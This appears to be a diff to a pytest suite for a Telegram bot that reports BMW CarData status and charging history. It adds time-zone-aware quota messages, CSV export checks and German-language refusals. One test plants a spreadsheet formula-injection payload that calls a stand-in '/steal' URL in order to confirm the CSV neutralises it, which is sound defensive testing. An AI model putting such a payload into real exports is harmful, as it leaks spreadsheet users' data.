@@ -7,16 +7,21 @@ the re-link prompt after a refused refresh, Refresh with the day's calls spent, 
 from __future__ import annotations
 
 import asyncio
+import csv
 import html
+import io
 import sqlite3
 from collections.abc import AsyncIterator, Callable
+from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
+from zoneinfo import ZoneInfo
 
 import pytest
 from telegram.ext import Application
 
 from bot.backends import CarDataBackend
+from bot.bmw.simulator import Fault
 from bot.cardata.simulator import (
     DEFAULT_BEV_VIN,
     DEFAULT_CLIENT_ID,
@@ -25,10 +30,13 @@ from bot.cardata.simulator import (
     DEFAULT_SECONDARY_VIN,
     CardataSimulator,
 )
+from bot.cardata.simulator.fleet import CHARGING_STATUS, DOOR_STATUS
 from bot.chat import texts
 from bot.config import Settings
 from bot.garage import Garage
+from bot.history import CSV_COLUMNS
 from bot.sandbox.driver import ChatMessage, Sandbox, SandboxUser
+from bot.store import UserSettings
 from tests.support.bot import fast_client, running_bot
 
 # The device flow polled every second (BMW: 5 s), so linking takes a second, not five.
@@ -65,6 +73,13 @@ def charging(application: Application, vin: str) -> Callable[[], bool]:
     """Whether the bot has seen that car's charge begin (its charge detector's memory)."""
     store = cardata_of(application).store
     return lambda: (track := store.cardata_track(OWNER, vin)) is not None and track.session_start is not None
+
+
+def next_budget_day_in(zone: str) -> str:
+    """When BMW's calls work again (the next UTC midnight) as an English user in `zone` reads it."""
+    midnight = (datetime.now(UTC) + timedelta(days=1)).replace(hour=0, minute=0, second=0, microsecond=0)
+    local = midnight.astimezone(ZoneInfo(zone))
+    return f"{local:%b} {local.day}, {local.year}, {local:%H:%M}"
 
 
 def texts_of(user: SandboxUser, contains: str) -> list[str]:
@@ -287,6 +302,7 @@ async def test_refresh_says_how_many_calls_are_left_then_from_when_more_are_poss
     settings = cardata_bot_settings.model_copy(update={"cardata_daily_calls": 12})
     async with running_bot(settings, fast_client(simulator_url)) as application:
         await link_cardata(user, cardata_simulator)
+        choose(application, time_zone="Asia/Tokyo")
         left = cardata_of(application).client.calls_left(OWNER)  # linking took some of the day's calls
         assert 0 < left <= texts.FEW_CALLS_LEFT + 1
         user.send("/status")
@@ -300,22 +316,23 @@ async def test_refresh_says_how_many_calls_are_left_then_from_when_more_are_poss
 
         user.press(status, "Refresh")  # none left: the last status stays, and when calls work again
         spent = await user.wait_for_bot_message("No fresh snapshot from BMW")
-        tomorrow = (datetime.now(UTC) + timedelta(days=1)).strftime("%Y-%m-%d")
-        assert f"more are possible from {tomorrow} 00:00 UTC" in (spent.text or "")
+        assert f"more are possible from {next_budget_day_in('Asia/Tokyo')}." in (spent.text or "")
+        assert "UTC" not in (spent.text or "")
         assert "70 %" in (spent.text or "") and spent.message_id == status.message_id
 
 
 async def test_refresh_when_bmw_says_the_quota_is_spent(
     linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
 ) -> None:
+    choose(linked, time_zone="America/New_York")
     user.send("/status")
     status = await user.wait_for_bot_message("🕒")
     cardata_simulator.spend_quota(DEFAULT_GCID)  # another client of the owner's used BMW's 50 calls
     user.press(status, "Refresh")
     spent = await user.wait_for_bot_message("No fresh snapshot from BMW")
-    tomorrow = (datetime.now(UTC) + timedelta(days=1)).strftime("%Y-%m-%d")
     said = html.unescape(spent.text or "")
-    assert f"Today's BMW CarData calls are used up; more are possible from {tomorrow} 00:00 UTC" in said
+    when = next_budget_day_in("America/New_York")
+    assert f"Today's BMW CarData calls are used up; more are possible from {when}." in said
     assert "64 %" in (spent.text or "")
 
 
@@ -376,11 +393,12 @@ async def test_when_a_co_owners_calls_are_why_none_are_left_status_and_refresh_s
         assert cardata_of(application).client.calls_left(OWNER) == 0
 
         await link_cardata(partner, cardata_simulator)  # from the linking reserve
+        choose(application, CO_OWNER, time_zone="America/New_York")
         partner.send("/status")
         status = await partner.wait_for_bot_message("No BMW calls are left")
         his = html.unescape(status.text or "")
-        tomorrow = (datetime.now(UTC) + timedelta(days=1)).strftime("%Y-%m-%d")
-        assert f"🔄 No BMW calls are left for your Refresh until {tomorrow} 00:00 UTC." in his, his
+        until = next_budget_day_in("America/New_York")
+        assert f"🔄 No BMW calls are left for your Refresh until {until}." in his, his
         co_owners = "👥 The other owners linked to this BMW account used 20 of today's calls"
         assert co_owners in his, his
         partner.press(status, "Refresh")
@@ -536,16 +554,16 @@ async def test_history_with_the_days_calls_spent_shows_the_recorded_charges_and_
     linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
 ) -> None:
     await charge_to_the_target(linked, user, cardata_simulator)
+    choose(linked, time_zone="Asia/Tokyo")
     cardata_simulator.spend_quota(DEFAULT_GCID)  # another client of the owner's used BMW's 50 calls
     user.send("/history")
     shown = await user.wait_for_bot_message("Charging history of")
     text = html.unescape(shown.text or "")
     charges = [line for line in text.splitlines() if " · " in line]
     assert len(charges) == 1 and "64–80 % · ≈" in charges[0] and charges[0].endswith("🔋 complete"), text
-    tomorrow = (datetime.now(UTC) + timedelta(days=1)).strftime("%Y-%m-%d")
     assert text.endswith(
         "BMW's own charging history could not be fetched, so only the charges I recorded show: Today's BMW "
-        f"CarData calls are used up; more are possible from {tomorrow} 00:00 UTC."
+        f"CarData calls are used up; more are possible from {next_budget_day_in('Asia/Tokyo')}."
     ), text
 
 
@@ -679,3 +697,98 @@ async def test_location_and_copy_buttons_come_from_the_stream_without_a_bmw_call
     assert pin.location == pytest.approx((48.2, 11.6))
     assert pin.button("📋 Position").copy_text == "48.20000, 11.60000"
     assert len(cardata_simulator.requests) == calls  # the streamed position: nothing asked of BMW
+
+
+async def csv_rows(user: SandboxUser, listing: ChatMessage) -> list[list[str]]:
+    """Press the CSV button under a /history listing: the document's rows, header first."""
+    user.press(listing, "CSV")
+    await user.wait_for(lambda u: any(m.document for m in u.bot_messages))
+    document = next(m for m in user.bot_messages if m.document).document
+    assert document is not None
+    return list(csv.reader(io.StringIO(document.decode())))
+
+
+async def test_the_csv_neutralises_formulas_the_car_sends(
+    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
+) -> None:
+    hostile = '=HYPERLINK("http://127.0.0.1/steal?"&A1,"details")'
+    cardata_simulator.plug_in(DEFAULT_BEV_VIN)
+    await until(charging(linked, DEFAULT_BEV_VIN), "the charge seen")
+    cardata_simulator.advance(60)
+    cardata_simulator.finish_charging(DEFAULT_BEV_VIN, reason=hostile)
+    await user.wait_for_bot_message("stopped charging")
+    user.send("/history")
+    listing = await user.wait_for_bot_message("Charging history of")
+
+    rows = await csv_rows(user, listing)
+    cells = [cell for row in rows for cell in row]
+    assert "'" + hostile in cells  # kept, but as text: a spreadsheet shows it rather than running it
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], rows
+
+
+async def test_a_huge_charging_duration_from_bmw_breaks_neither_the_chart_nor_the_csv(
+    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
+) -> None:
+    start = int(cardata_simulator.now()) - 3600
+    session = {"startTime": start, "endTime": None, "displayedStartSoc": 30, "displayedSoc": 80}
+    cardata_simulator.car(DEFAULT_BEV_VIN).history.append({**session, "totalChargingDurationSec": 10**12})
+    user.send("/history")
+    listing = await user.wait_for_bot_message("Charging history of")
+    chart = await user.wait_for_bot_message("last 30 days")
+    assert chart.photo is not None
+    assert texts.SOMETHING_WRONG not in user.transcript()
+
+    rows = await csv_rows(user, listing)
+    minutes = [int(row[CSV_COLUMNS.index("minutes")]) for row in rows[1:]]
+    assert len(minutes) == 3 and max(minutes) < 7 * 24 * 60, rows  # no session of 31,000 years
+
+
+async def test_a_huge_unknown_status_from_the_car_keeps_status_within_telegrams_limit(
+    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
+) -> None:
+    cardata_simulator.plug_in(DEFAULT_BEV_VIN, charging=False)
+    cardata_simulator.report(DEFAULT_BEV_VIN, CHARGING_STATUS, "SOME_NEW_STATE_" + "X" * 5000)
+    cardata_simulator.report(DEFAULT_BEV_VIN, DOOR_STATUS, "ANOTHER_" + "Y" * 5000)
+    await until(
+        lambda: len(cardata_of(linked).status(OWNER, DEFAULT_BEV_VIN).lock_state or "") > 5000, "streamed"
+    )
+    user.send("/status")
+    status = await user.wait_for_bot_message("🕒")
+    text = status.text or ""
+    assert "🔌 plugged in, some new state" in text and "🔐 another" in text, text
+    assert len(text) < 1000, text
+
+
+def choose(application: Application, tg_id: int = OWNER, **chosen: object) -> None:
+    """What the owner chose in /settings (language, time zone), stored as /settings stores it."""
+    garage = garage_of(application)
+    garage.save_user_settings(tg_id, replace(garage.user_settings(tg_id) or UserSettings(), **chosen))  # type: ignore[arg-type]
+
+
+ENGLISH_REFUSALS = ("Today's", "calls are used up", "does not know", "no longer accepts", "please")
+
+
+async def test_cardatas_refusals_reach_a_german_owner_in_german(
+    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
+) -> None:
+    choose(linked, language="de")
+    user.send("/status")
+    status = await user.wait_for_bot_message("🕒")
+
+    async def refresh_says(german: str) -> str:
+        user.press(status, "🔄 Aktualisieren")
+        await user.wait_for(lambda u: german in html.unescape(u.now(status).text or ""))
+        said = html.unescape(user.now(status).text or "").split("\n\n")[-1]
+        assert said.startswith("⚠️ Kein frischer Stand von BMW: "), said
+        assert not any(english in said for english in ENGLISH_REFUSALS), said
+        return said
+
+    cardata_simulator.add_fault(Fault(path="telematicData", kind="error", status=404, times=1))
+    await refresh_says("BMW CarData kennt dieses Auto in deinem Konto nicht.")
+
+    cardata_simulator.add_fault(Fault(path="telematicData", kind="error", status=401, times=1))
+    cardata_simulator.add_fault(Fault(path="/token$", kind="error", status=400, times=1))  # renewal refused
+    await refresh_says("BMW CarData akzeptiert diese Verbindung nicht mehr; bitte verknüpfe das Auto neu.")
+
+    cardata_simulator.spend_quota(DEFAULT_GCID)
+    await refresh_says("Die BMW-CarData-Abrufe für heute sind aufgebraucht; weitere sind möglich ab ")
